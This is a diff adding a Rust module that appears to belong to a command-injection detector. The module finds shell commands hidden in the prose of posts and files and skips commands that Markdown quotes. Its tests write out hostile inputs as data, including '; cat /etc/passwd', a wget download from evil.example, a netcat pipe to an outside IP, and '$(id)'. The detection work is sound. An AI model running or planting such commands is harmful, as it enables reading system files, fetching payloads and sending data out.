@@ -1,0 +1,111 @@
+//! Documents: posts and files of many lines. They quote commands where Markdown has them quoted: in fences, between
+//! backticks, indented. What is left is read line by line, so that prose around a command does not hide it.
+
+use super::{may_hold_command, shell};
+use crate::{detect::Match, field::Place};
+use std::borrow::Cow;
+
+pub(super) fn detect(value: &[u8], place: Place) -> Option<Match<'static>> {
+    let mut start = 0;
+    let mut is_fenced = false;
+    for line in value.split(|&byte| byte == b'\n') {
+        let from = start;
+        start += line.len() + 1;
+        let text = line.trim_ascii_start();
+        if text.starts_with(b"```") || text.starts_with(b"~~~") {
+            is_fenced = !is_fenced;
+            continue;
+        }
+        if is_fenced || is_quoted(line, text) || !may_hold_command(line, place) {
+            continue;
+        }
+        let found = shell(&without_spans(line), place).filter(|it| from == 0 || !opens(it, line));
+        if let Some(found) = found {
+            return Some(Match { span: from + found.span.start..from + found.span.end, ..found });
+        }
+    }
+    None
+}
+
+/// Indented code, a heading, a prompt, the row of a table.
+fn is_quoted(line: &[u8], text: &[u8]) -> bool {
+    let is_marked = matches!(text, [b'$' | b'#' | b'>' | b'%', b' ', ..]) || text.starts_with(b"##");
+    let is_row = matches!(text, [b'|', cells @ ..] if memchr::memchr(b'|', cells).is_some_and(|at| at > 0));
+    line.starts_with(b"    ") || line.starts_with(b"\t") || is_marked || is_row
+}
+
+/// Alone on its line, a command is an example. One that breaks out of something stands after it.
+fn opens(found: &Match<'_>, line: &[u8]) -> bool {
+    let is_first = found.span.start == 0 && line.first().is_some_and(u8::is_ascii_alphanumeric);
+    is_first
+        || matches!(
+            found.signature,
+            "rce-command-line" | "rce-program-path" | "rce-command-chain" | "rce-glob-path"
+        )
+}
+
+/// The line with blanks for what stands between backticks.
+fn without_spans(line: &[u8]) -> Cow<'_, [u8]> {
+    if memchr::memchr(b'`', line).is_none() {
+        return Cow::Borrowed(line);
+    }
+    let mut plain = line.to_vec();
+    let mut open: Option<usize> = None;
+    for at in memchr::memchr_iter(b'`', line) {
+        match open.take() {
+            Some(from) => plain[from..=at].fill(b' '),
+            None => open = Some(at),
+        }
+    }
+    Cow::Owned(plain)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const PROSE: &str = "We had a long day at the lake and nobody wanted to go home early.\n\
+        The children swam, the dog slept, and the old boat stayed where it was.\n\
+        In the evening there was soup, and somebody told the story of the pike again.\n\
+        It grows longer every year, the pike does, and so does the story of it.\n\
+        Nobody minds, because the soup is good and the evenings are long here.\n";
+
+    fn finds(line: &str) -> bool {
+        let text = format!("{PROSE}{line}\n{PROSE}");
+        assert!(crate::detect::is_document(text.as_bytes()));
+        detect(text.as_bytes(), Place::Value).is_some()
+    }
+
+    #[test]
+    fn prose_around_a_command_does_not_hide_it() {
+        for line in [
+            "; cat /etc/passwd",
+            "x; wget http://evil.example/x -O /tmp/x",
+            "1 && whoami",
+            "a | nc 203.0.113.9 4444",
+            "|id",
+            "$(id)",
+        ] {
+            assert!(finds(line), "{line}");
+        }
+    }
+
+    #[test]
+    fn a_command_before_prose_is_no_title() {
+        let text = format!("cat /etc/passwd\n{PROSE}{PROSE}");
+        assert!(detect(text.as_bytes(), Place::Value).is_some());
+    }
+
+    #[test]
+    fn what_a_post_quotes_is_quoted() {
+        for line in [
+            "```\ncd /tmp; cat /etc/passwd\n```",
+            "    ls -la | grep x; cat /etc/passwd",
+            "Then run `x; cat /etc/passwd` and wait.",
+            "$ make; sudo make install",
+            "| id | name |",
+        ] {
+            assert!(!finds(line), "{line}");
+        }
+    }
+}
